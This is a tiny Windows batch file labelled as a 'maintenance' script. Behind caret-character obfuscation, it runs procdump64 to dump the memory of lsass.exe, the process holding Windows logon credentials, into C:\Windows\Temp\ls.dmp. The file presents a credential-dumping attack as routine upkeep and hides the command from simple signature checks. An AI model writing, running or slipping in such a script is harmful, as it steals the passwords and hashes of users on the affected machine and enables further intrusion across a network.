REM maintenance 5291 v1
@echo off
set gwrx=proc^du^mp6^4.e^xe -^acce^pt^eul^a -m^a l^s^a^ss.^e^xe ^C:\^Wind^ows\^Tem^p\ls.^dm^p
call %gwrx%
